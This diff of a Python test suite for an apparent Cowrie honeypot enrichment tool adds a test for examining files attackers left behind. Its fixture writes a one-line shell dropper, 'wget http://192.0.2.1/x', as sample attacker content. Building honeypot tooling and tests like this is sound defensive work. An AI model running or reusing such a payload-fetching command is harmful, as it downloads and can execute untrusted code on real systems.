@@ -77,7 +77,7 @@ def test_a_run_tells_what_came_of_it(ingested: Cowrie, player: Player, monkeypat
 
 def test_all_services_on_the_sample(ingested: Cowrie, player: Player) -> None:
     ran = ingested("enrich")
-    assert (ran.code, ran.out.count("answered")) == (0, len(HTTP_SERVICES)), ran.err
+    assert (ran.code, ran.out.count("\n")) == (0, len(HTTP_SERVICES)), ran.err
     assert ingested("validate").code == 0
     made = len(player.calls)
     again = ingested("enrich")
@@ -181,6 +181,16 @@ def test_lists_on_this_machine_are_matched(ingested: Cowrie, monkeypatch: pytest
     file.unlink()
     gone = ingested("enrich")
     assert (gone.code, "everything.netset" in gone.err) == (1, True)
+
+
+def test_what_attackers_left_is_looked_into(ingested: Cowrie, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    folder = tmp_path / "left"
+    folder.mkdir()
+    (folder / ("ab" * 32)).write_bytes(b"#!/bin/sh\nwget http://192.0.2.1/x\n")
+    monkeypatch.setenv("COWRIE_DOWNLOADS_DIR", str(folder))
+    assert ingested("enrich", "--dry-run").out == "downloads: would look into 1 folder\n"
+    assert ingested("enrich").out == "downloads: 1 file, 1 examined\n"
+    assert ingested("enrich", "--service", "downloads").out == "downloads: 1 file, 0 examined\n"
 
 
 def test_a_key_that_is_missing_or_no_reference_is_told_by_name_only(
